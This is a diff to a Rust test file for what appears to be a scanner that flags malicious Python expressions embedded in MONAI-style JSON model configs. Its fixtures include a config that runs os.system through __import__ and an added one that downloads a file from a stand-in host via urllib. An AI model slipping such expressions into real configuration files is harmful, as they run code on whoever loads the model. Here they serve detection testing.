@@ -71,6 +71,8 @@ fn a_target_given_twice_counts_both_times() {
 fn monai_expressions_are_judged_as_python() {
     let evil = r#"{"imports": ["$import os"], "run": "$__import__('os').system('true')", "net": {"_target_": "monai.networks.nets.UNet"}}"#;
     assert_eq!(verdict(&inspect_bytes("inference.json", evil.as_bytes())), Verdict::Malicious);
+    let fetch = r#"{"imports": [], "d": "$urllib.request.urlretrieve('https://h.example/x', @f)", "net": {"_target_": "UNet"}}"#;
+    assert_eq!(rules(&inspect_bytes("evaluate.json", fetch.as_bytes())), ["config-unusual-expression"]);
     let honest = r#"{"imports": ["$import glob", "$import os"], "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')", "data": "$list(sorted(glob.glob(@dir + '/*')))", "net": {"_target_": "monai.networks.nets.UNet"}}"#;
     let outcome = inspect_bytes("inference.json", honest.as_bytes());
     assert_eq!((outcome.format, verdict(&outcome)), (Some("hydra-json"), Verdict::Clean));
